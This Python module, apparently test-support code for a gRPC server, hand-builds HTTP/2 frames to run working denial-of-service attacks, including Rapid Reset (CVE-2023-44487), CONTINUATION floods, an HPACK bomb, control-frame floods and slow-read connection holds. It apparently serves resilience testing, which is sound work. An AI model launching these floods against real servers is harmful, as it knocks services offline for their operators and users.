"""Attacks over HTTP/2, frame by frame (RFC 9113), with headers compressed by hand (RFC 7541)."""

import asyncio
from collections.abc import AsyncIterator, Awaitable, Callable, Iterable, Sequence
from contextlib import asynccontextmanager, suppress

from tests.support.attacks import Done

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    *range(5),
    *range(6, 10),
)
ACK, END_STREAM, END_HEADERS = 1, 1, 4
CANCEL = 8
INITIAL_WINDOW_SIZE = 4
"""The identifiers in SETTINGS."""

BATCH = 100
"""Frames that go out in one write."""

PAUSE = 0.05
"""Seconds between two attempts to connect, when the server takes no connection."""

GET_USER = "/user.UsuarioServicio/GetUser"
ANA = b"\0\0\0\0\5\x0a\3Ana"
"""A GetUserRequest in its envelope."""

Pairs = Sequence[tuple[bytes, bytes]]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload


def integer(value: int, bits: int, first: int = 0) -> bytes:
    """An integer of HPACK with a prefix of so many bits, beside the bits of `first`."""
    most = (1 << bits) - 1
    if value < most:
        return bytes((first | value,))
    value -= most
    found = bytearray((first | most,))
    while value >= 128:
        found.append(value % 128 | 128)
        value //= 128
    return bytes((*found, value))


def literal(name: bytes, value: bytes, *, indexed: bool = False) -> bytes:
    """A header as it is. If `indexed`, it enters the table."""
    start = b"\x40" if indexed else b"\0"
    return start + integer(len(name), 7) + name + integer(len(value), 7) + value


def request_block(path: str = GET_USER, more: Pairs = ()) -> bytes:
    """The headers of a gRPC call."""
    pairs = [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path.encode()),
        (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
        *more,
    ]
    return b"".join(literal(name, value) for name, value in pairs)


def settings(*pairs: tuple[int, int]) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(number.to_bytes(2) + value.to_bytes(4) for number, value in pairs))


class Connection:
    """One connection, whose incoming frames are counted in `done` by their kind and thrown away."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, done: Done) -> None:
        self._reader = reader
        self._writer = writer
        self._done = done
        self._next = -1
        self.closed = asyncio.Event()

    def stream(self) -> int:
        """The number of a new stream."""
        self._next += 2
        return self._next

    @property
    def exhausted(self) -> bool:
        """Whether the numbers of streams are running out."""
        return self._next > 2**30

    async def send(self, *frames: bytes) -> None:
        """Sends the frames. Raises ConnectionError."""
        self._writer.write(b"".join(frames))
        await self._writer.drain()

    async def read(self) -> None:
        """Reads until the server closes the connection."""
        try:
            with suppress(ConnectionError, asyncio.IncompleteReadError):
                while True:
                    head = await self._reader.readexactly(9)
                    await self._reader.readexactly(int.from_bytes(head[:3]))
                    self._done[f"got {head[3]}"] += 1
        finally:
            self.closed.set()


@asynccontextmanager
async def connected(
    host: str, port: int, done: Done, *pairs: tuple[int, int], source: str | None = None
) -> AsyncIterator[Connection]:
    """A connection behind the preface and the client's SETTINGS. When the server closes it, the block is
    cancelled by ConnectionError at its next send. Raises OSError."""
    reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0) if source else None)
    done["connections"] += 1
    connection = Connection(reader, writer, done)
    reading = asyncio.ensure_future(connection.read())
    reading.add_done_callback(lambda _: writer.transport.abort())
    try:
        await connection.send(PREFACE, settings(*pairs))
        yield connection
    finally:
        reading.cancel()
        writer.transport.abort()


Work = Callable[[Connection], Awaitable[None]]


async def again_and_again(
    work: Work, host: str, port: int, done: Done, *pairs: tuple[int, int], source: str | None = None
) -> None:
    """Does the work on a connection, and on another one whenever the server has closed it."""
    while True:
        before = done["connections"]
        try:
            async with connected(host, port, done, *pairs, source=source) as connection:
                await work(connection)
        except OSError:
            done["closed"] += 1
            await asyncio.sleep(PAUSE if done["connections"] == before else 0)


async def flood(
    host: str, port: int, done: Done, make: Callable[[Connection], Iterable[bytes]], **options: str | None
) -> None:
    """Sends batches of what `make` gives, as fast as the server reads them."""

    async def work(connection: Connection) -> None:
        while not connection.exhausted:
            await connection.send(*(part for _ in range(BATCH) for part in make(connection)))
            done["rounds"] += BATCH
            await asyncio.sleep(0)  # so that it can be cancelled, and others get their turn

    await again_and_again(work, host, port, done, **options)


async def rapid_reset(host: str, port: int, done: Done, **options: str | None) -> None:
    """CVE-2023-44487: calls that are reset at once, so that they count against no limit of streams."""
    block = request_block()

    def make(connection: Connection) -> Iterable[bytes]:
        stream = connection.stream()
        yield frame(HEADERS, END_HEADERS, stream, block)
        yield frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4))

    await flood(host, port, done, make, **options)


async def reset_among_refused(host: str, port: int, done: Done, **options: str | None) -> None:
    """The same, with as many requests in between that the server itself refuses: a server that counts which
    part of the calls is reset sees half of them."""
    block, refused = request_block(), request_block("/%ff")

    def make(connection: Connection) -> Iterable[bytes]:
        for _ in range(2):
            yield frame(HEADERS, END_HEADERS | END_STREAM, connection.stream(), refused)
        stream = connection.stream()
        yield frame(HEADERS, END_HEADERS, stream, block)
        yield frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4))

    await flood(host, port, done, make, **options)


async def reset_whole_calls(host: str, port: int, done: Done, **options: str | None) -> None:
    """Whole calls that are reset behind their last byte."""
    block = request_block()

    def make(connection: Connection) -> Iterable[bytes]:
        stream = connection.stream()
        yield frame(HEADERS, END_HEADERS, stream, block)
        yield frame(DATA, END_STREAM, stream, ANA)
        yield frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4))

    await flood(host, port, done, make, **options)


async def reset_by_error(host: str, port: int, done: Done, **options: str | None) -> None:
    """Calls that the server has to reset, because of a WINDOW_UPDATE by nothing."""
    block = request_block()

    def make(connection: Connection) -> Iterable[bytes]:
        stream = connection.stream()
        yield frame(HEADERS, END_HEADERS, stream, block)
        yield frame(WINDOW_UPDATE, 0, stream, bytes(4))

    await flood(host, port, done, make, **options)


async def hpack_bomb(host: str, port: int, done: Done, **options: str | None) -> None:
    """Headers of some 50 KB that take 200 bytes on the wire: one entry of the table, named often."""
    large = literal(b"x-large", b"a" * 3900, indexed=True)
    block = request_block() + integer(62, 7, 0x80) * 12  # 62 is the newest entry of the table

    async def work(connection: Connection) -> None:
        first = connection.stream()
        await connection.send(frame(HEADERS, END_HEADERS | END_STREAM, first, request_block() + large))
        while not connection.exhausted:
            parts = []
            for _ in range(BATCH):
                stream = connection.stream()
                parts.append(frame(HEADERS, END_HEADERS, stream, block))
                parts.append(frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4)))
            await connection.send(*parts)
            done["rounds"] += BATCH
            await asyncio.sleep(0)

    await again_and_again(work, host, port, done, **options)


async def call_and_leave(host: str, port: int, done: Done, **options: str | None) -> None:
    """Connections that begin as many calls as they may, and close at once."""
    block = request_block()

    async def work(connection: Connection) -> None:
        await connection.send(
            *(frame(HEADERS, END_HEADERS, connection.stream(), block) for _ in range(BATCH))
        )
        done["rounds"] += BATCH

    await again_and_again(work, host, port, done, **options)


async def half_open(host: str, port: int, done: Done, **options: str | None) -> None:
    """As many calls as one connection may have, whose requests never end."""
    block = request_block()

    async def work(connection: Connection) -> None:
        for _ in range(10):
            await connection.send(
                *(frame(HEADERS, END_HEADERS, connection.stream(), block) for _ in range(BATCH))
            )
            done["rounds"] += BATCH
        await connection.closed.wait()

    await again_and_again(work, host, port, done, **options)


async def no_window(host: str, port: int, done: Done, *, path: str = "/", **options: str | None) -> None:
    """Downloads for which the client opens a window of one byte, and no further one."""
    wanted = [(b":method", b"GET"), (b":scheme", b"http"), (b":path", path.encode())]
    block = b"".join(literal(name, value) for name, value in [*wanted, (b":authority", b"localhost")])

    async def work(connection: Connection) -> None:
        await connection.send(
            *(frame(HEADERS, END_HEADERS | END_STREAM, connection.stream(), block) for _ in range(BATCH))
        )
        done["rounds"] += BATCH
        await connection.closed.wait()

    await again_and_again(work, host, port, done, (INITIAL_WINDOW_SIZE, 1), **options)


async def continuation_flood(host: str, port: int, done: Done, **options: str | None) -> None:
    """CVE-2024-27983 and its like: headers that never end."""
    part = literal(b"x-part", b"a" * 100) * 10

    async def work(connection: Connection) -> None:
        stream = connection.stream()
        await connection.send(frame(HEADERS, 0, stream, request_block()))
        while True:
            await connection.send(*(frame(CONTINUATION, 0, stream, part) for _ in range(BATCH)))
            done["rounds"] += BATCH
            await asyncio.sleep(0)

    await again_and_again(work, host, port, done, **options)


async def empty_continuations(host: str, port: int, done: Done, **options: str | None) -> None:
    """The same with frames that are empty, so that no limit of bytes is met."""

    async def work(connection: Connection) -> None:
        stream = connection.stream()
        await connection.send(frame(HEADERS, 0, stream, request_block()))
        while True:
            await connection.send(frame(CONTINUATION, 0, stream) * BATCH)
            done["rounds"] += BATCH
            await asyncio.sleep(0)

    await again_and_again(work, host, port, done, **options)


async def settings_flood(host: str, port: int, done: Done, **options: str | None) -> None:
    """SETTINGS, each of which has to be acknowledged."""
    one = settings((1, 4096), (INITIAL_WINDOW_SIZE, 65535))
    await flood(host, port, done, lambda _: [one], **options)


async def ping_flood(host: str, port: int, done: Done, **options: str | None) -> None:
    """PING, each of which has to be answered."""
    await flood(host, port, done, lambda _: [frame(PING, 0, 0, bytes(8))], **options)


async def window_flood(host: str, port: int, done: Done, **options: str | None) -> None:
    """WINDOW_UPDATE of the connection, by a byte each."""
    await flood(host, port, done, lambda _: [frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4))], **options)


async def priority_flood(host: str, port: int, done: Done, **options: str | None) -> None:
    """PRIORITY of streams that are not open."""
    await flood(host, port, done, lambda _: [frame(PRIORITY, 0, 3, bytes(4) + b"\x10")], **options)


async def empty_data_flood(host: str, port: int, done: Done, **options: str | None) -> None:
    """DATA without bytes, on a call that is open."""
    block = request_block()

    async def work(connection: Connection) -> None:
        stream = connection.stream()
        await connection.send(frame(HEADERS, END_HEADERS, stream, block))
        while True:
            await connection.send(frame(DATA, 0, stream) * BATCH)
            done["rounds"] += BATCH
            await asyncio.sleep(0)

    await again_and_again(work, host, port, done, **options)


async def large_headers(host: str, port: int, done: Done, **options: str | None) -> None:
    """Calls whose headers are as large as a frame of 60 KB."""
    block = request_block(more=[(b"x-%d" % number, b"a" * 600) for number in range(90)])

    def make(connection: Connection) -> Iterable[bytes]:
        stream = connection.stream()
        for start in range(0, len(block), 16384):
            last = start + 16384 >= len(block)
            kind = CONTINUATION if start else HEADERS
            yield frame(kind, END_HEADERS if last else 0, stream, block[start : start + 16384])
        yield frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4))

    await flood(host, port, done, make, **options)


async def table_flood(host: str, port: int, done: Done, **options: str | None) -> None:
    """Headers that change the table of the server with every entry, and its size with every request."""

    def make(connection: Connection) -> Iterable[bytes]:
        stream = connection.stream()
        sizes = integer(0, 5, 0x20) + integer(4096, 5, 0x20)
        entries = b"".join(literal(b"x-%d" % number, b"a" * 40, indexed=True) for number in range(60))
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, sizes + request_block() + entries)
        yield frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4))

    await flood(host, port, done, make, **options)


FLOODS = [
    rapid_reset,
    reset_among_refused,
    reset_whole_calls,
    reset_by_error,
    call_and_leave,
    hpack_bomb,
    table_flood,
    large_headers,
    continuation_flood,
    empty_continuations,
    settings_flood,
    ping_flood,
    window_flood,
    priority_flood,
    empty_data_flood,
]
"""All that keep the server busy."""

HOLDS = [half_open, no_window]
"""All that take something and leave it unused."""
